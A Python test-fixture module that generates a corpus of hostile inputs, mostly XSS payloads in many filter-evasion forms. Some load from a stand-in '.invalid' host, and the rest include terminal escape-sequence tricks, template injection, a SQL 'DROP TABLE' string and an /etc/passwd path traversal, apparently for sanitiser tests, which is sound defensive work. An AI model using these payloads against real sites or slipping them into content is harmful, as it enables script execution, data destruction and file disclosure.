"""Two hundred texts that would run, load or steer something if anybody took them for markup.

Made of parts: each way to get a script running, in each dress that filters have been known to miss.
All of them call `alert`, which the browser tests watch, or load from a host that nobody may ask.
"""

from collections.abc import Iterator

ELSEWHERE = "http://elsewhere.invalid/x"
RUN = "alert('ran')"
ESC, BEL = "\x1b", "\x07"

TAGS = (
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\t>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{ELSEWHERE}">',
    f"<img src=x:x onerror\n={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src={ELSEWHERE}>",
    f"<object data={ELSEWHERE}>",
    f"<embed src={ELSEWHERE}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<math><mtext></table><img src=x onerror={RUN}>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><input type=submit autofocus></form>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<a id=body href=javascript:{RUN}>body</a>",
    f"<p style='background:url({ELSEWHERE})'>",
)
FRAMES = ("{}", '">{}', "'>{}", "</textarea>{}", "</title></script>{}")
LINKS = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN})",
    f"![picture]({ELSEWHERE})",
    f"![picture](javascript:{RUN})",
    f"[ref]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"[a](<javascript:{RUN}>)",
    f"```html\n<script>{RUN}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <svg onload={RUN}>",
    f"> <img src=x onerror={RUN}>",
    f"- <script>{RUN}</script>",
)
TERMINAL = (
    f"{ESC}]8;;javascript:{RUN}{ESC}\\click{ESC}]8;;{ESC}\\",
    f"{ESC}]8;;{ELSEWHERE}{BEL}click{ESC}]8;;{BEL}",
    f"{ESC}[31m<script>{RUN}</script>{ESC}[0m",
    f"{ESC}]0;<script>{RUN}</script>{BEL}",
    f'{ESC}[38;2;1;2;3"onmouseover={RUN}m red',
    f"{ESC}P<script>{RUN}</script>{ESC}\\",
    f"a\r<img src=x onerror={RUN}>",
    f"\x9b31m<svg onload={RUN}>",
)
ODD = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    f"javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"\u202e<script>{RUN}</script>",
    f"\u2028<img src=x onerror={RUN}>\u2029",
    f"\ufeff<svg onload={RUN}>",
    f"\x00<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<\x00script>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "__proto__",
    "constructor",
    "'; DROP TABLE tasks; --",
    "../../../../etc/passwd",
)


def hostile_texts() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (frame.format(tag) for frame in FRAMES for tag in TAGS)
    yield from LINKS
    yield from TERMINAL
    yield from ODD
